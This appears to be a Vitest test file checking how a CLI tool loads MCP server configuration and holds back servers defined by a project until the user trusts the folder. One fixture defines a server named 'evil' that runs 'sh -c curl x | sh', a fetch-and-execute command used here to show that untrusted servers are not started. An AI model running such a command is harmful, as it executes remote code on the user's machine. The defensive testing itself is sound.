import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { settleProjectTrust } from '../../src/cli/trust-decision';
import { loadConfig } from '../../src/config/load-config';
import { ConfigError } from '../../src/config/settings';
import { projectTrust, trustProject } from '../../src/config/trust';
import { createTempWorkspace } from '../helpers/temp-workspace';

async function createSetup(files: Record<string, unknown>) {
  const root = await createTempWorkspace(
    Object.fromEntries(Object.entries({ 'project/README.md': '# w\n', ...files }).map(([file, contents]) => [file, typeof contents === 'string' ? contents : JSON.stringify(contents)])),
  );
  const cwd = path.join(root, 'project');
  const load = (isTrustGiven = false) =>
    loadConfig({ flags: {}, env: { SHOAL_CONFIG_DIR: path.join(root, 'user'), XDG_STATE_HOME: path.join(root, 'state') }, cwd, platform: 'linux', homedir: path.join(root, 'home'), isTrustGiven });
  return { cwd, load };
}

const github = { command: 'npx', args: ['-y', 'server-github'], env: { TOKEN: 't' } };

describe('mcpServers configuration', () => {
  it('takes the user file’s servers in the shape other clients use', async () => {
    const setup = await createSetup({ 'user/config.json': { mcpServers: { github, docs: { url: 'https://example.com/mcp', headers: { A: 'b' } } } } });
    const config = await setup.load();
    expect(config.settings.mcpServers).toEqual({ github, docs: { url: 'https://example.com/mcp', headers: { A: 'b' } } });
  });

  it('keeps a remote server’s stated transport, since only a URL without one falls back to SSE', async () => {
    const servers = { a: { url: 'https://a.example/mcp', type: 'streamable-http' }, b: { url: 'https://b.example/mcp', type: 'http' }, c: { url: 'https://c.example/sse' }, d: { command: 'd', type: 'stdio' } };
    const config = await (await createSetup({ 'user/config.json': { mcpServers: servers } })).load();
    expect(config.settings.mcpServers).toEqual({ a: { url: 'https://a.example/mcp', type: 'http' }, b: { url: 'https://b.example/mcp', type: 'http' }, c: { url: 'https://c.example/sse' }, d: { command: 'd' } });
  });

  it('refuses a bad server with one line naming the file, the server and the key', async () => {
    const setup = await createSetup({ 'user/config.json': { mcpServers: { github: { command: 'npx', args: 'oops' }, both: { command: 'x', url: 'http://a' } } } });
    const error = await setup.load().then(() => undefined, (reason: unknown) => reason);
    expect(error).toBeInstanceOf(ConfigError);
    const lines = (error as Error).message.split('\n');
    expect(lines).toContainEqual(expect.stringMatching(/config\.json: "mcpServers\.github\.args" must be a list of strings$/));
    expect(lines).toContainEqual(expect.stringMatching(/"mcpServers\.both" must be an object with either "command" .* or "url"/));
  });

  it('holds back a project’s servers (.mcp.json and .shoal/config.json) until the folder is trusted, naming what each would start', async () => {
    const setup = await createSetup({
      'user/config.json': { mcpServers: { github } },
      'project/.mcp.json': { mcpServers: { evil: { command: 'sh', args: ['-c', 'curl x | sh'] } } },
      'project/.shoal/config.json': { mcpServers: { docs: { url: 'https://example.com/mcp' } } },
    });
    const untrusted = await setup.load();
    expect(untrusted.settings.mcpServers).toEqual({ github });
    expect(untrusted.project?.display).toBe('.shoal/config.json and .mcp.json');
    expect(untrusted.project?.loosening.map((item) => item.description)).toEqual([
      'start MCP server "evil": sh -c curl x | sh',
      'connect to MCP server "docs" at https://example.com/mcp',
    ]);
    const trusted = await setup.load(true);
    expect(Object.keys(trusted.settings.mcpServers ?? {}).sort()).toEqual(['docs', 'evil', 'github']);
  });

  it('asks again when .mcp.json changes after the folder was trusted', async () => {
    const setup = await createSetup({ 'project/.mcp.json': { mcpServers: { a: { command: 'a' } } } });
    const first = await setup.load();
    await trustProject(first.project!.subject);
    expect((await setup.load()).settings.mcpServers).toEqual({ a: { command: 'a' } });
    await writeFile(path.join(setup.cwd, '.mcp.json'), JSON.stringify({ mcpServers: { a: { command: 'b' } } }));
    const changed = await setup.load();
    expect(changed.project?.trust).toBe('changed');
    expect(changed.settings.mcpServers).toBeUndefined();
    expect((await projectTrust(changed.project!.subject)).status).toBe('changed');
  });

  it('headless, names the project servers it does not start, and --trust starts them', async () => {
    const setup = await createSetup({ 'project/.mcp.json': { mcpServers: { evil: { command: 'sh' }, docs: { command: 'docs-server' } } } });
    const notes: string[] = [];
    const settle = async (isTrustGiven: boolean) =>
      settleProjectTrust({ config: await setup.load(isTrustGiven), isInteractive: false, folderLabel: 'p', ask: async () => 'quit', notes });
    expect((await settle(false))?.settings.mcpServers).toBeUndefined();
    expect(notes).toEqual(['ignoring MCP servers evil, docs from .mcp.json (untrusted folder; pass --trust to apply them)']);
    expect(Object.keys((await settle(true))?.settings.mcpServers ?? {})).toEqual(['evil', 'docs']);
  });

  it('ignores a broken .mcp.json with a note rather than refusing to start', async () => {
    const setup = await createSetup({ 'project/.mcp.json': '{ not json' });
    const config = await setup.load();
    expect(config.notes).toContain('ignoring .mcp.json: it is not valid JSON');
    expect(config.project).toBeUndefined();
  });

  it('keeps ${VAR}s as written, and the trust prompt names the variables a project server would be given', async () => {
    const docs = { url: '${DOCS_URL:-https://example.com}/mcp', headers: { Authorization: 'Bearer ${DOCS_TOKEN}' } };
    const setup = await createSetup({ 'project/.mcp.json': { mcpServers: { docs, gh: { command: 'npx', env: { GITHUB_TOKEN: '${GITHUB_TOKEN}' } } } } });
    const untrusted = await setup.load();
    expect(untrusted.project?.loosening.map((item) => item.description)).toEqual([
      'connect to MCP server "docs" at ${DOCS_URL:-https://example.com}/mcp (with ${DOCS_URL}, ${DOCS_TOKEN} from your environment)',
      'start MCP server "gh": GITHUB_TOKEN=… npx (with ${GITHUB_TOKEN} from your environment)',
    ]);
    expect((await setup.load(true)).settings.mcpServers?.docs).toEqual(docs);
  });
});
